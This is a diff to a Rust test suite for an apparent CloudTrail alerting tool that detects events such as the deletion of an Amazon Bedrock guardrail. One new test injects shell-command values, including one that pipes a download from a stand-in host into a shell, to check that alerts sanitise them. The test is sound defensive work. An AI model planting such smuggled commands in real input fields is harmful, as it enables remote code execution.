@@ -231,7 +231,7 @@ fn every_situation_gives_what_its_name_says() {
         ("hostile-text", vec!["High", "Medium"]),
         ("logging-switched-off", vec!["High"]),
         ("not-a-trail", vec!["High"]),
-        ("one-unreadable-record", vec!["High", "Medium"]),
+        ("one-unreadable-record", vec!["High", "High"]),
         ("quiet-day", vec![]),
         ("root-invokes-model", vec!["High"]),
         ("trail-stopped", vec!["Critical"]),
@@ -519,6 +519,9 @@ fn an_alert_answers_what_a_person_asks() {
         "DeleteGuardrail at bedrock.amazonaws.com: it succeeded",
         "guardrailIdentifier: gr4example7k2",
         "assumed role DataScience (session mallory), temporary credentials, without MFA",
+        "with the credential ASIAEXAMPLEMALLORY01",
+        "Why it matters  Somebody deleted an Amazon Bedrock guardrail",
+        "--region eu-central-1 --lookup-attributes AttributeKey=AccessKeyId,AttributeValue=ASIAEXAMPLEMALLORY01",
         "203.0.113.24",
         "111122223333, eu-central-1",
         "2026-11-22T09:01:00Z",
@@ -531,6 +534,15 @@ fn an_alert_answers_what_a_person_asks() {
     ] {
         assert!(body.contains(expected), "{expected} is missing in\n{body}");
     }
+}
+
+/// What is filled into a command must be nothing that a shell would act on.
+#[test]
+fn commands_are_filled_in_only_with_what_is_harmless() {
+    let hostile = json!({"awsRegion": "x; curl evil | sh", "userIdentity": {"accessKeyId": "$(id)"}});
+    let audited = found(&[delete_guardrail(1, &hostile)]);
+    let body = Alert::of(&[only(&audited)], 0).unwrap().body;
+    assert!(body.contains("--region REGION --lookup-attributes AttributeKey=AccessKeyId,AttributeValue=KEY"), "{body}");
 }
 
 #[test]
@@ -627,7 +639,8 @@ proptest! {
         prop_assert!(alert.body.chars().all(harmless));
         prop_assert!(finding.summary().chars().all(|c| c != '\n' && harmless(c)));
         // Every line is one of ours: it begins with one of the names or with the blanks below it.
-        let names = ["Finding", "What happened", "Who", "From", "With", "Where", "When", "How sure", "What to do", "Raw record", "Reproduce", "Ids", "               "];
+        let names = ["Finding", "Why it matters",
+            "What happened", "Who", "From", "With", "Where", "When", "How sure", "What to do", "Raw record", "Reproduce", "Ids", "               "];
         prop_assert!(alert.body.lines().all(|line| line.is_empty() || names.iter().any(|name| line.starts_with(name))));
         for attribute in finding.attributes() {
             prop_assert!(attribute.value.bytes().all(|byte| (b' '..=b'~').contains(&byte)));
